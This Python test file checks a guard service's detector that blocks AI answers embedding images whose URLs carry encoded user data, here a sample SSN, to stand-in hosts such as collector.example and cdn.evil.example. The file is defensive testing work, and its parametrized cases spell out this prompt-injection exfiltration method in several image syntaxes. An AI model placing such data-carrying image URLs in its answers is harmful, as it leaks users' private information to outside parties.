"""Images in a model's answer whose URL carries data away: found in every image syntax, blocked by the default
profile as a prompt injection, and told apart from badges, charts and images on allowed hosts."""

from __future__ import annotations

import base64

import pytest

from libs.common.messages import KeyProfile
from services.guard.engine.config import GuardConfig
from services.guard.engine.exfiltration import ExfiltrationDetector
from services.guard.engine.pipeline import GuardPipeline
from services.guard.engine.profiles import profile_named

SECRET = base64.urlsafe_b64encode(b"user said: my SSN is 536-22-8014 and the deal closes Friday").decode()


@pytest.fixture(scope="module")
def pipeline(pii_detector):
    return GuardPipeline([pii_detector, ExfiltrationDetector.build(GuardConfig())], GuardConfig(executor="inline"))


@pytest.mark.parametrize(
    ("answer", "url"),
    [
        (f"Done! ![loading](https://collector.example/p.png?d={SECRET})", f"https://collector.example/p.png?d={SECRET}"),
        (f'Here you go <img src="https://cdn.evil.example/a.gif?u={SECRET}" width=1>',
         f"https://cdn.evil.example/a.gif?u={SECRET}"),
        (f"Summary above. ![x][1]\n\n[1]: https://t.example/i?v={SECRET}", f"https://t.example/i?v={SECRET}"),
        (f"![](//t.example/{SECRET})", f"//t.example/{SECRET}"),
        ("![ok](https://t.example/i.png?q=What%20is%20my%20SSN%20536-22-8014)",
         "https://t.example/i.png?q=What%20is%20my%20SSN%20536-22-8014"),
    ],
)
async def test_an_image_whose_url_carries_data_withholds_the_answer(pipeline, answer: str, url: str) -> None:
    v = await pipeline.screen_response(answer, KeyProfile())
    assert not v.forward and "prompt_injection" in v.categories
    found = [f for f in v.assessment.findings if f.type == "DATA_EXFILTRATION"]
    assert [answer[f.start:f.end] for f in found] == [url]
    assert "sends data to" in v.assessment.reason


@pytest.mark.parametrize(
    "answer",
    [
        "![build](https://img.shields.io/badge/build-passing-green?style=flat-square)",
        "![downloads](https://static.pepy.tech/personalized-badge/spacy?period=total&units=international_system)",
        "![ruff](https://img.shields.io/endpoint?url=https://raw.githubusercontent.com/astral-sh/ruff/main/v2.json)",
        "![chart](https://example.com/chart.png?width=600&height=400)",
        "![shot](https://user-images.githubusercontent.com/123/0b2c3d4e-1f2a-4b5c-8d9e-0f1a2b3c4d5e.png)",
        "![logo](https://camo.githubusercontent.com/b8555ef2222598ed37ce38ac86955febbd25de7619931bb7dd3c58432181d3b6/"
        "68747470733a2f2f626565776172652e6f7267)",
        "Read more [here](https://docs.example.com/search?q=how%20to%20rotate%20keys%20in%202025)",  # a click sends it
        "```python\nimg = f'![x](https://t.example/?d={data})'\n```",
    ],
)
async def test_badges_charts_proxied_images_and_links_pass(pipeline, answer: str) -> None:
    v = await pipeline.screen_response(answer, KeyProfile())
    assert v.forward and v.categories == []


async def test_an_allowed_host_may_receive_data_and_the_log_profile_forwards(pii_detector) -> None:
    answer = f"![chart](https://quickchart.io/chart?c={SECRET})"
    allowing = GuardPipeline([ExfiltrationDetector(["quickchart.io"])], GuardConfig(executor="inline"))
    assert (await allowing.screen_response(answer, KeyProfile())).forward
    strict = GuardPipeline([ExfiltrationDetector()], GuardConfig(executor="inline"))
    logged = await strict.screen_response(answer, profile_named("log"))
    assert logged.forward and logged.categories == ["prompt_injection"]


async def test_requests_are_not_read_for_exfiltration(pipeline) -> None:
    # A user's own markdown is theirs to send; the check is on what the model answers.
    v = await pipeline.screen_text(f"render this: ![x](https://collector.example/p.png?d={SECRET})", KeyProfile())
    assert not any(f.type == "DATA_EXFILTRATION" for f in v.assessment.findings)
